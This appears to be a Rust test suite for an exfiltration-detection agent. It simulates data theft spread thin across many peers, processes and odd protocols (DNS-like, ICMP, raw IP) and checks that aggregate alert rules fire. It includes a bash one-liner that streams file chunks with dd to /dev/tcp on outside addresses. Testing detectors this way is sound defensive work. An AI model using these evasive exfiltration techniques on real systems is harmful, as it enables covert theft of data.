//! Pace and spread (TECHNIQUES 1I), and odd protocols (1G): no packet, process or peer carries much.

use std::{
    fs,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    process::Command,
};

use tests::lab::{KIB, MIB, alert::findings, outside::UNCONTROLLED};

use super::tooling::{Cgroup, descendant, ok};
use crate::{
    expect::Expected,
    world::{ALERT_WITHIN, PATIENCE, Test, World, size, skip},
};

pub(crate) const TESTS: &[Test] = &[
    ("twenty_peers_below_the_line", twenty_peers),
    ("three_hundred_processes_below_the_line", three_hundred_processes),
    ("sums_by_user_unit_and_container", sums_by_user_unit_and_container),
    ("dns_like_datagrams", dns_like_datagrams),
    ("datagrams_cut_by_the_kernel", datagrams_cut_by_the_kernel),
    ("datagrams_between_those_to_this_host", datagrams_between_others),
    ("icmp_echo", |w| packets(w, 1, "icmp")),
    ("unassigned_ip_protocol", |w| packets(w, 253, "other")),
];

/// Where the many listen.
const PORT: u16 = 7000;

/// One socket sends in turns to this host and to the outside, always as much: what stays does not speak for what leaves.
fn datagrams_between_others(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.udp(UNCONTROLLED, size(source)));
    let addr = receiver.addr;
    let mut command = scene.python("in_turns.py", include_str!("scripts/in_turns.py"));
    let thief = scene.run(command.arg(source).arg(addr.ip().to_string()).arg(addr.port().to_string()));
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &thief, addr, "udp", bytes)];
    scene.expect(&expected);
}

/// Two megabytes to each of twenty addresses, by one process.
fn twenty_peers(w: &mut World) {
    let mut scene = w.prepare_sized(1, 40 * MIB);
    let peers = addresses(&scene.world.outside, 20);
    scene.start();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.tcp_many(PORT, 20));
    let script = include_str!("scripts/spread.py");
    let mut command = scene.python("spread.py", script);
    let thief =
        scene.run(command.arg(source).arg(PORT.to_string()).args(peers.iter().map(ToString::to_string)));
    let bytes = ok(receiver.finish()).bytes;
    assert_eq!(bytes, size(source));
    let expected = [Expected::drip(&scene, &thief, bytes)];
    scene.expect(&expected);
}

/// 128 KiB by each of three hundred processes that share a shell, to five addresses.
fn three_hundred_processes(w: &mut World) {
    World::needs("bash");
    let mut scene = w.prepare_sized(1, 40 * MIB);
    let peers = addresses(&scene.world.outside, 5);
    scene.start();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.tcp_many(PORT, 300));
    let names: Vec<String> = peers.iter().map(ToString::to_string).collect();
    let text = format!(
        "i=0; for round in $(seq 60); do for ip in {}; do dd if={} bs=128K skip=$i count=1 status=none > /dev/tcp/$ip/{PORT}; \
         i=$((i + 1)); done; done",
        names.join(" "),
        source.display()
    );
    let shell = scene.run(Command::new("bash").args(["-c", &text]));
    let bytes = ok(receiver.finish()).bytes;
    assert_eq!(bytes, 300 * 128 * KIB);
    let expected = [Expected::drip(&scene, &descendant(&shell, "dd"), bytes)];
    scene.expect(&expected);
}

/// Of how many processes the sum of each user, unit and container is asked for.
const CARRIERS: u64 = 100;
const PART: u64 = 128 * KIB;
/// `OVER` is what all of them carry together, so that a sum that lacks one of them says nothing.
const SUMS: &str = "schema: 1
pack: sums
requires_agent: \">=0.1\"
rules:
";
const SUM: &str = "  - id: LAB-ID
    revision: 1
    title: Parts that add up by KEY
    severity: medium
    status: experimental
    mode: alert
    owner: tests
    runbook: docs/runbooks/WB-0003.md
    tags: [attack.t1030]
    on: flow
    match: {sink.control: uncontrolled}
    aggregate: {sum: bound, by: [asset.name, KEY], over: 1h, tiers: [{gte: OVER, severity: medium}]}
    group_by: [asset.name, KEY]
";

/// Two hundred processes that each stay far below every line: half of them one user's in a unit of systemd, half another's in a
/// container. Each user, the unit and the container have carried what their processes did together.
fn sums_by_user_unit_and_container(w: &mut World) {
    const USERS: [u64; 2] = [61_001, 61_002];
    World::needs("setpriv");
    let mut scene = w.prepare_sized(1, 40 * MIB);
    let container = "0123456789abcdef".repeat(4);
    let groups =
        ["wbtest.slice/wbtest-sums.service".to_owned(), format!("wbtests.slice/docker-{container}.scope")]
            .map(|below| Cgroup::make(&below));
    let keys = ["user.id", "service.unit", "container.id"];
    let rules: String = (1..)
        .zip(keys)
        .map(|(nth, key)| {
            let sum = SUM.replace("ID", &format!("{nth:04}")).replace("KEY", key);
            sum.replace("OVER", &format!("{}B", CARRIERS * PART))
        })
        .collect();
    let folder = scene.work.join("sums");
    fs::create_dir(&folder).expect("a folder for rules");
    fs::write(folder.join("sums.yaml"), SUMS.to_owned() + &rules).expect("rules can be written");
    scene.config.rules = vec![folder];
    scene.start();
    let (source, copies) = (scene.model.files[0].display(), scene.uncontrolled.join("part"));
    for (nth, (group, user)) in (0_u64..).zip(groups.iter().zip(USERS)) {
        let first = nth * CARRIERS;
        let text = format!(
            "{} && for i in $(seq {first} {}); do setpriv --reuid {user} --clear-groups dd bs={PART} count=1 skip=$i status=none \
             < {source} > {}$i || exit 1; done",
            group.join(),
            first + CARRIERS - 1,
            copies.display(),
        );
        scene.shell(&text);
    }
    let said =
        scene.agent().wait(ALERT_WITHIN, |alerts| (findings(alerts).len() >= 6).then(|| findings(alerts)));
    let said = ok(said).expect("six sums reach their line");
    let mut sums: Vec<(String, u64, Option<u64>, String, String)> = said
        .iter()
        .map(|alert| {
            let text = |pointer| alert.text(pointer).to_owned();
            let user = alert.number("/process/uid");
            (alert.rule().to_owned(), alert.bound(), user, text("/process/unit"), text("/process/container"))
        })
        .collect();
    sums.sort();
    let all = CARRIERS * PART;
    // Who runs in no container is a sum of its own, and so is a scope.
    let unit = (Some(USERS[0]), "wbtest-sums.service".to_owned(), String::new());
    let scope = (Some(USERS[1]), format!("docker-{container}.scope"), container);
    let rules = ["LAB-0001", "LAB-0002", "LAB-0003"];
    let wanted: Vec<_> = rules
        .iter()
        .flat_map(|rule| {
            [&unit, &scope].map(|who| ((*rule).to_owned(), all, who.0, who.1.clone(), who.2.clone()))
        })
        .collect();
    assert_eq!(sums, wanted);
    scene.stop();
}

/// Further addresses of the outside.
fn addresses(outside: &tests::lab::outside::Outside, count: u8) -> Vec<Ipv4Addr> {
    let peers: Vec<Ipv4Addr> = (0..count).map(|n| Ipv4Addr::new(198, 51, 100, 20 + n)).collect();
    for peer in &peers {
        ok(outside.add_address(*peer));
    }
    peers
}

const QUERY: u64 = 500;
const QUERY_HEADER: u64 = 12;

/// Questions of some hundred bytes to port 53.
fn dns_like_datagrams(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let addr = SocketAddr::from((UNCONTROLLED, 53));
    let sent = size(source) + size(source).div_ceil(QUERY) * QUERY_HEADER;
    let receiver = ok(scene.world.outside.udp_at(addr, sent));
    let script = include_str!("scripts/packets.py");
    let mut command = scene.python("packets.py", script);
    let thief =
        scene.run(command.arg(source).arg(UNCONTROLLED.to_string()).arg("dns").arg(QUERY.to_string()));
    assert_eq!(ok(receiver.finish()).bytes, sent);
    // The headers come on top of what was taken, and no bound is above that.
    let expected = [Expected::egress(&scene, &thief, addr, "udp", size(source))];
    scene.expect(&expected);
}

/// As QUIC sends: one call with 56 KiB, which the kernel cuts into datagrams.
fn datagrams_cut_by_the_kernel(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.udp(UNCONTROLLED, size(source)));
    let addr = receiver.addr;
    let script = include_str!("scripts/segments.py");
    let mut command = scene.python("segments.py", script);
    let finished = ok(scene
        .spawn(command.arg(source).arg(addr.ip().to_string()).arg(addr.port().to_string()))
        .finish(PATIENCE));
    if finished.code == Some(77) {
        skip(finished.stdout.trim());
    }
    let thief = ok(finished.success());
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &thief, addr, "udp", bytes)];
    scene.expect(&expected);
}

const PAYLOAD: u64 = 1400;
const ECHO_HEADER: u64 = 8;

/// Packets of an IP protocol without ports, through a raw socket.
fn packets(w: &mut World, protocol: u8, name: &str) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let header = if protocol == 1 { ECHO_HEADER } else { 0 };
    let sent = size(source) + size(source).div_ceil(PAYLOAD) * header;
    let receiver = ok(scene.world.outside.raw(protocol, sent));
    let script = include_str!("scripts/packets.py");
    let mut command = scene.python("packets.py", script);
    let words = [UNCONTROLLED.to_string(), protocol.to_string(), PAYLOAD.to_string()];
    let thief = scene.run(command.arg(source).args(words));
    assert_eq!(ok(receiver.finish()).bytes, sent);
    let peer: (IpAddr, u16) = (UNCONTROLLED, 0);
    let expected = [Expected::egress(&scene, &thief, peer.into(), name, size(source))];
    scene.expect(&expected);
}
